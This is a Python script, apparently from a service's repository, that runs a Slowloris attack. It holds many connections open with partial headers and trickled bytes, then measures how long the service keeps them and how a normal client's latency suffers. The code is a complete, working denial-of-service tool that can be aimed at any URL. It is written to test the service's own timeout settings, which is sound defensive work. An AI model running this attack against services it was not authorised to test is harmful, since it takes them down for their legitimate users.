#!/usr/bin/env python3
"""Slowloris against an Adyton service: how long stalled connections are held, and what a normal
client sees meanwhile (docs/kbs-config.md, "Connections").

Opens N connections (TLS for https:// URLs), sends half of a request's headers on each and then
one more header byte every INTERVAL seconds, and watches when the service closes them. Meanwhile a
normal client makes one request at a time (a new connection each) and its latencies are timed.

    scripts/slowloris.py https://127.0.0.1:8443/v2/health/live -n 1000
    scripts/slowloris.py http://127.0.0.1:8080/v2/health/live -n 1000 --interval 2

Prints the number of stalled connections opened, when they were closed (seconds after each was
opened: min, p50, max), how many were still open at the end, and the normal client's p50 and p95
before and during the attack. Standard library only. TLS certificates are not verified: this is a
load tool for one's own services, not a client.
"""

import argparse
import selectors
import socket
import ssl
import statistics
import sys
import threading
import time
import urllib.parse
from concurrent.futures import ThreadPoolExecutor


def parse_args():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("url", help="http(s)://HOST:PORT/PATH; PATH is what the normal client asks")
    p.add_argument("-n", "--connections", type=int, default=1000, help="stalled connections")
    p.add_argument("--interval", type=float, default=3.0,
                   help="seconds between the bytes trickled on each stalled connection")
    p.add_argument("--duration", type=float, default=120.0,
                   help="longest time to watch the stalled connections, in seconds")
    p.add_argument("--openers", type=int, default=32,
                   help="threads opening the stalled connections")
    p.add_argument("--normal-interval", type=float, default=0.1,
                   help="pause between the normal client's requests, in seconds")
    return p.parse_args()


class Target:
    def __init__(self, url):
        parsed = urllib.parse.urlsplit(url)
        if parsed.scheme not in ("http", "https"):
            sys.exit(f"{url}: give an http:// or https:// URL")
        self.tls = parsed.scheme == "https"
        self.host = parsed.hostname or "127.0.0.1"
        self.port = parsed.port or (443 if self.tls else 80)
        self.path = parsed.path or "/"
        if parsed.query:
            self.path += "?" + parsed.query
        self.context = None
        if self.tls:
            self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            self.context.check_hostname = False
            self.context.verify_mode = ssl.CERT_NONE

    def connect(self, timeout):
        sock = socket.create_connection((self.host, self.port), timeout=timeout)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.tls:
            sock = self.context.wrap_socket(sock, server_hostname=self.host)
        return sock


class Stalled:
    """One stalled connection."""

    def __init__(self, sock):
        self.sock = sock
        self.opened = time.monotonic()
        self.closed = None


def open_stalled(target):
    try:
        sock = target.connect(timeout=30)
        sock.sendall(
            f"GET {target.path} HTTP/1.1\r\nHost: {target.host}\r\nX-Slow: ".encode()
        )
        sock.setblocking(False)
        return Stalled(sock)
    except OSError as e:
        return e


def is_closed(conn):
    """Whether the server closed `conn` (it is readable: an EOF, a reset, or an answer)."""
    try:
        data = conn.sock.recv(4096)
    except (ssl.SSLWantReadError, BlockingIOError):
        return False
    except OSError:
        return True
    # An EOF, or an answer (the service gave up on the request) that the close follows.
    return data == b"" or data.startswith(b"HTTP/")


def normal_request(target):
    started = time.monotonic()
    try:
        sock = target.connect(timeout=30)
        sock.sendall(
            f"GET {target.path} HTTP/1.1\r\nHost: {target.host}\r\nConnection: close\r\n\r\n".encode()
        )
        answer = b""
        while b"\r\n" not in answer:
            chunk = sock.recv(4096)
            if not chunk:
                break
            answer += chunk
        sock.close()
        ok = answer.startswith(b"HTTP/1.1 2")
    except OSError:
        ok = False
    return ok, time.monotonic() - started


def percentile(values, fraction):
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(fraction * len(ordered)))]


def normal_client(target, stop, interval, results):
    while not stop.is_set():
        results.append(normal_request(target))
        time.sleep(interval)


def summary(label, results):
    times = [t * 1000 for ok, t in results if ok]
    failed = sum(1 for ok, _ in results if not ok)
    print(
        f"{label}: {len(results)} requests, {failed} failed, "
        f"p50 {percentile(times, 0.5):.1f} ms, p95 {percentile(times, 0.95):.1f} ms"
    )


def main():
    args = parse_args()
    target = Target(args.url)

    baseline = [normal_request(target) for _ in range(50)]
    summary("normal client, before", baseline)

    during = []
    stop = threading.Event()
    client = threading.Thread(
        target=normal_client, args=(target, stop, args.normal_interval, during), daemon=True
    )
    client.start()

    started = time.monotonic()
    with ThreadPoolExecutor(args.openers) as pool:
        opened = list(pool.map(lambda _: open_stalled(target), range(args.connections)))
    conns = [c for c in opened if isinstance(c, Stalled)]
    errors = [c for c in opened if not isinstance(c, Stalled)]
    print(
        f"opened {len(conns)} stalled connections in {time.monotonic() - started:.1f} s"
        + (f"; {len(errors)} failed to open (first: {errors[0]})" if errors else "")
    )

    selector = selectors.DefaultSelector()
    for conn in conns:
        selector.register(conn.sock, selectors.EVENT_READ, conn)
    open_count = len(conns)
    next_trickle = time.monotonic() + args.interval
    deadline = started + args.duration
    while open_count and time.monotonic() < deadline:
        timeout = max(0.0, min(next_trickle, deadline) - time.monotonic())
        for key, _ in selector.select(timeout):
            conn = key.data
            if is_closed(conn):
                conn.closed = time.monotonic()
                selector.unregister(conn.sock)
                conn.sock.close()
                open_count -= 1
        if time.monotonic() >= next_trickle:
            for conn in conns:
                if conn.closed is None:
                    try:
                        conn.sock.send(b"x")
                    except (ssl.SSLWantWriteError, BlockingIOError):
                        pass
                    except OSError:
                        conn.closed = time.monotonic()
                        selector.unregister(conn.sock)
                        conn.sock.close()
                        open_count -= 1
            next_trickle = time.monotonic() + args.interval
    stop.set()
    client.join()

    held = [c.closed - c.opened for c in conns if c.closed is not None]
    print(
        f"closed by the service: {len(held)} of {len(conns)}; held "
        f"min {min(held, default=float('nan')):.1f} s, p50 {percentile(held, 0.5):.1f} s, "
        f"max {max(held, default=float('nan')):.1f} s after opening"
    )
    print(f"still open after {args.duration:.0f} s: {open_count}")
    summary("normal client, during", during)
    for conn in conns:
        if conn.closed is None:
            conn.sock.close()


if __name__ == "__main__":
    main()
